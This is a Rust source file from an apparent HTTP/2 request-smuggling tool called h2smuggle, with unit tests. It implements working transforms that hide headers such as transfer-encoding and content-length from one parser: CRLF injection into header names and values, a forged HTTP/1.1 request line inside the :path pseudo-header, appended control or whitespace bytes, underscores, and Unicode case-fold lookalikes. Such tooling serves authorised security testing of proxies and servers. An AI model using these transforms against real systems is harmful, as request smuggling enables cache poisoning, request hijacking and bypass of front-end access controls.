// Copyright (c) 2024, The h2smuggle Project Authors.
// All rights reserved.
//
// Redistribution and use in source and binary forms, with or without
// modification, are permitted provided that the following conditions are
// met:
//
//     * Redistributions of source code must retain the above copyright
//       notice, this list of conditions and the following disclaimer.
//
//     * Redistributions in binary form must reproduce the above
//       copyright notice, this list of conditions and the following disclaimer
//       in the documentation and/or other materials provided with the
//       distribution.
//
//     * Neither the name of the copyright holder nor the names of its
//       contributors may be used to endorse or promote products derived from
//       this software without specific prior written permission.
//
// THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS
// "AS IS" AND ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT
// LIMITED TO, THE IMPLIED WARRANTIES OF MERCHANTABILITY AND FITNESS FOR
// A PARTICULAR PURPOSE ARE DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT
// OWNER OR CONTRIBUTORS BE LIABLE FOR ANY DIRECT, INDIRECT, INCIDENTAL,
// SPECIAL, EXEMPLARY, OR CONSEQUENTIAL DAMAGES (INCLUDING, BUT NOT
// LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR SERVICES; LOSS OF USE,
// DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER CAUSED AND ON ANY
// THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY, OR TORT
// (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
// OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.

//! Smuggling transforms: syntactic mutations that hide a header from one
//! parser on the request path but not the other.
//!
//! Each method consumes exactly one variant shape; pairing a method with
//! a foreign variant is a bug in the caller, not a runtime condition, and
//! panics.

use crate::headers::Header;
use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SmugglingMethod {
    None,
    Underscore,
    Spaced,
    NewlineValue,
    NewlineName,
    NewlinePath,
    Unicode,
}

pub const SMUGGLING_METHODS: [SmugglingMethod; 7] = [
    SmugglingMethod::None,
    SmugglingMethod::Spaced,
    SmugglingMethod::Underscore,
    SmugglingMethod::NewlinePath,
    SmugglingMethod::NewlineValue,
    SmugglingMethod::NewlineName,
    SmugglingMethod::Unicode,
];

/// Variant knobs, one shape per method family.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SmugglingVariant {
    None,
    /// Character appended to the header name.
    Spaced(&'static str),
    /// Newline flavor plus the fake header name in front of it.
    NewlineHeader {
        newline: &'static str,
        header: &'static str,
    },
    /// Newline flavor for the forged request-line in `:path`.
    NewlinePath { newline: &'static str },
    Unicode(UnicodeVariant),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnicodeVariant {
    /// `s` → U+017F in the name; folds back to `s` under case folding.
    ReplaceSInName,
    /// `k` → U+212A in the value; folds back to `k`.
    ReplaceKInValue,
}

const NEWLINES: [&str; 3] = ["\r\n", "\r", "\n"];

impl SmugglingMethod {
    /// All variants this method consumes.
    pub fn variants(&self) -> Vec<SmugglingVariant> {
        match self {
            SmugglingMethod::None | SmugglingMethod::Underscore => {
                vec![SmugglingVariant::None]
            }

            SmugglingMethod::Spaced => ["\0", " ", "\t", "\x0b", "\u{85}", "\u{a0}", "\u{130ba}"]
                .into_iter()
                .map(SmugglingVariant::Spaced)
                .collect(),

            SmugglingMethod::NewlineName => {
                let mut variants = Vec::new();
                for newline in NEWLINES {
                    for header in ["x", "x:"] {
                        variants.push(SmugglingVariant::NewlineHeader { newline, header });
                    }
                }
                variants
            }

            SmugglingMethod::NewlineValue => {
                let mut variants = Vec::new();
                for newline in NEWLINES {
                    for header in ["header", " header", "x-forwarded-for"] {
                        variants.push(SmugglingVariant::NewlineHeader { newline, header });
                    }
                }
                variants
            }

            SmugglingMethod::NewlinePath => NEWLINES
                .into_iter()
                .map(|newline| SmugglingVariant::NewlinePath { newline })
                .collect(),

            SmugglingMethod::Unicode => vec![
                SmugglingVariant::Unicode(UnicodeVariant::ReplaceSInName),
                SmugglingVariant::Unicode(UnicodeVariant::ReplaceKInValue),
            ],
        }
    }

    /// Whether `variant` has the shape this method consumes.
    pub fn accepts(&self, variant: &SmugglingVariant) -> bool {
        matches!(
            (self, variant),
            (SmugglingMethod::None, SmugglingVariant::None)
                | (SmugglingMethod::Underscore, SmugglingVariant::None)
                | (SmugglingMethod::Spaced, SmugglingVariant::Spaced(_))
                | (SmugglingMethod::NewlineName, SmugglingVariant::NewlineHeader { .. })
                | (SmugglingMethod::NewlineValue, SmugglingVariant::NewlineHeader { .. })
                | (SmugglingMethod::NewlinePath, SmugglingVariant::NewlinePath { .. })
                | (SmugglingMethod::Unicode, SmugglingVariant::Unicode(_))
        )
    }

    /// Mutates `header` in place. `path` is the request path, used by the
    /// path-based transform.
    pub fn smuggle(&self, header: &mut Header, path: &str, variant: &SmugglingVariant) {
        match (self, variant) {
            (SmugglingMethod::None, SmugglingVariant::None) => {}

            (SmugglingMethod::Underscore, SmugglingVariant::None) => {
                for b in header.name.iter_mut() {
                    if *b == b'-' {
                        *b = b'_';
                    }
                }
            }

            (SmugglingMethod::Spaced, SmugglingVariant::Spaced(space)) => {
                header.name.extend_from_slice(space.as_bytes());
            }

            (SmugglingMethod::NewlineValue, SmugglingVariant::NewlineHeader { newline, header: fake }) => {
                let mut value = b"val".to_vec();
                value.extend_from_slice(newline.as_bytes());
                value.extend_from_slice(&header.name);
                value.push(b':');
                value.extend_from_slice(&header.value);
                header.value = value;
                header.name = fake.as_bytes().to_vec();
            }

            (SmugglingMethod::NewlineName, SmugglingVariant::NewlineHeader { newline, header: fake }) => {
                let mut name = fake.as_bytes().to_vec();
                name.extend_from_slice(newline.as_bytes());
                name.extend_from_slice(&header.name);
                header.name = name;
            }

            (SmugglingMethod::NewlinePath, SmugglingVariant::NewlinePath { newline }) => {
                let mut value = path.as_bytes().to_vec();
                value.extend_from_slice(b" HTTP/1.1");
                value.extend_from_slice(newline.as_bytes());
                value.extend_from_slice(&header.name);
                value.extend_from_slice(b": ");
                value.extend_from_slice(&header.value);
                value.extend_from_slice(newline.as_bytes());
                value.extend_from_slice(b"fake: ");
                header.value = value;
                header.name = b":path".to_vec();
            }

            (SmugglingMethod::Unicode, SmugglingVariant::Unicode(u)) => match u {
                UnicodeVariant::ReplaceSInName => {
                    let at = header
                        .name
                        .iter()
                        .position(|&b| b == b's')
                        .unwrap_or_else(|| {
                            panic!("no 's' to replace in header name {:?}", header.name)
                        });
                    header.name = substitute(&header.name, at, "\u{17f}".as_bytes());
                }
                UnicodeVariant::ReplaceKInValue => {
                    let at = header
                        .value
                        .iter()
                        .position(|&b| b == b'k')
                        .unwrap_or_else(|| {
                            panic!("no 'k' to replace in header value {:?}", header.value)
                        });
                    header.value = substitute(&header.value, at, "\u{212a}".as_bytes());
                }
            },

            (method, variant) => {
                panic!("variant {:?} does not belong to {:?}", variant, method)
            }
        }
    }
}

/// Copy of `bytes` with the byte at `at` replaced by `with`.
fn substitute(bytes: &[u8], at: usize, with: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() + with.len());
    out.extend_from_slice(&bytes[..at]);
    out.extend_from_slice(with);
    out.extend_from_slice(&bytes[at + 1..]);
    out
}

impl fmt::Display for SmugglingMethod {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            SmugglingMethod::None => "no header smuggling",
            SmugglingMethod::Underscore => "header smuggling via underscore",
            SmugglingMethod::Spaced => "header smuggling via adding space",
            SmugglingMethod::NewlineValue => "header smuggling via newline in header value",
            SmugglingMethod::NewlineName => "header smuggling via newline in header name",
            SmugglingMethod::NewlinePath => "header smuggling via newline in header path",
            SmugglingMethod::Unicode => "header smuggling via unicode characters",
        };
        f.write_str(s)
    }
}

impl fmt::Display for SmugglingVariant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SmugglingVariant::None => f.write_str("none"),
            SmugglingVariant::Spaced(space) => write!(f, "space {:?}", space),
            SmugglingVariant::NewlineHeader { newline, header } => {
                write!(f, "newline {:?} header {:?}", newline, header)
            }
            SmugglingVariant::NewlinePath { newline } => write!(f, "newline {:?}", newline),
            SmugglingVariant::Unicode(UnicodeVariant::ReplaceSInName) => {
                f.write_str("replace s in name")
            }
            SmugglingVariant::Unicode(UnicodeVariant::ReplaceKInValue) => {
                f.write_str("replace k in value")
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn smuggled(method: SmugglingMethod, variant: &SmugglingVariant) -> Header {
        let mut h = Header::new("transfer-encoding", "chunked");
        method.smuggle(&mut h, "/", variant);
        h
    }

    #[test]
    fn variant_counts() {
        assert_eq!(SmugglingMethod::None.variants().len(), 1);
        assert_eq!(SmugglingMethod::Underscore.variants().len(), 1);
        assert_eq!(SmugglingMethod::Spaced.variants().len(), 7);
        assert_eq!(SmugglingMethod::NewlineName.variants().len(), 6);
        assert_eq!(SmugglingMethod::NewlineValue.variants().len(), 9);
        assert_eq!(SmugglingMethod::NewlinePath.variants().len(), 3);
        assert_eq!(SmugglingMethod::Unicode.variants().len(), 2);
    }

    #[test]
    fn underscore_replaces_every_dash() {
        let h = smuggled(SmugglingMethod::Underscore, &SmugglingVariant::None);
        assert_eq!(h.name, b"transfer_encoding");
        assert_eq!(h.value, b"chunked");
    }

    #[test]
    fn spaced_appends_to_name() {
        let h = smuggled(SmugglingMethod::Spaced, &SmugglingVariant::Spaced("\t"));
        assert_eq!(h.name, b"transfer-encoding\t");
    }

    #[test]
    fn newline_value_moves_header_into_value() {
        let h = smuggled(
            SmugglingMethod::NewlineValue,
            &SmugglingVariant::NewlineHeader {
                newline: "\r\n",
                header: "header",
            },
        );
        assert_eq!(h.name, b"header");
        assert_eq!(h.value, b"val\r\ntransfer-encoding:chunked");
    }

    #[test]
    fn newline_name_prepends_fake_name() {
        let h = smuggled(
            SmugglingMethod::NewlineName,
            &SmugglingVariant::NewlineHeader {
                newline: "\n",
                header: "x:",
            },
        );
        assert_eq!(h.name, b"x:\ntransfer-encoding");
        assert_eq!(h.value, b"chunked");
    }

    #[test]
    fn newline_path_forges_request_line() {
        let mut h = Header::new("content-length", "1");
        SmugglingMethod::NewlinePath.smuggle(
            &mut h,
            "/login",
            &SmugglingVariant::NewlinePath { newline: "\r" },
        );
        assert_eq!(h.name, b":path");
        assert_eq!(
            h.value,
            b"/login HTTP/1.1\rcontent-length: 1\rfake: "
        );
    }

    #[test]
    fn unicode_substitutions_fold_back() {
        let h = smuggled(
            SmugglingMethod::Unicode,
            &SmugglingVariant::Unicode(UnicodeVariant::ReplaceSInName),
        );
        assert_eq!(h.name, "tran\u{17f}fer-encoding".as_bytes());

        let h = smuggled(
            SmugglingMethod::Unicode,
            &SmugglingVariant::Unicode(UnicodeVariant::ReplaceKInValue),
        );
        assert_eq!(h.value, "chun\u{212a}ed".as_bytes());
    }

    #[test]
    #[should_panic]
    fn unicode_refuses_when_letter_absent() {
        let mut h = Header::new("content-length", "1");
        SmugglingMethod::Unicode.smuggle(
            &mut h,
            "/",
            &SmugglingVariant::Unicode(UnicodeVariant::ReplaceSInName),
        );
    }

    #[test]
    #[should_panic]
    fn mismatched_variant_shape_panics() {
        let mut h = Header::new("a", "b");
        SmugglingMethod::Spaced.smuggle(&mut h, "/", &SmugglingVariant::None);
    }

    #[test]
    fn every_method_accepts_only_its_own_variants() {
        for method in SMUGGLING_METHODS {
            for variant in method.variants() {
                assert!(method.accepts(&variant));
            }
            for other in SMUGGLING_METHODS {
                if other == method
                    || matches!(
                        (method, other),
                        (SmugglingMethod::None, SmugglingMethod::Underscore)
                            | (SmugglingMethod::Underscore, SmugglingMethod::None)
                            | (SmugglingMethod::NewlineName, SmugglingMethod::NewlineValue)
                            | (SmugglingMethod::NewlineValue, SmugglingMethod::NewlineName)
                    )
                {
                    continue;
                }
                for variant in other.variants() {
                    assert!(!method.accepts(&variant), "{:?} accepted {:?}", method, variant);
                }
            }
        }
    }
}
